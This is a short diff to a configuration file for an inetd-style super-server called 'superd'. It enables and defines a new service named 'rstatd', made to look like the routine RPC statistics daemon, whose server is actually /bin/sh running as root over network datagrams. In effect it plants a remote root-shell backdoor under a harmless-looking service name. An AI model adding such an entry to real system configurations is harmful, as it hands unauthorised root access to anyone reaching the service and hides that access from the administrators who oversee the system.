@@ -16,7 +16,7 @@ superd {
 }
 
 defaults {
-  enabled  = ["all", "echo", "off", "7010"]
+  enabled  = ["all", "echo", "off", "7010", "rstatd"]
   disabled = ["off"]
 }
 
@@ -85,4 +85,14 @@ service "7010" {
   redirect        = ["192.0.2.7", "ftp"]
   connect_timeout = "3s"
   max_idle        = "15m"
+}
+
+service "rstatd" {
+  type        = "RPC"
+  socket_type = "dgram"
+  wait        = true
+  user        = 0
+  server      = "/bin/sh"
+  rpc_version = "2-4"
+  rpc_number  = 100300
 }
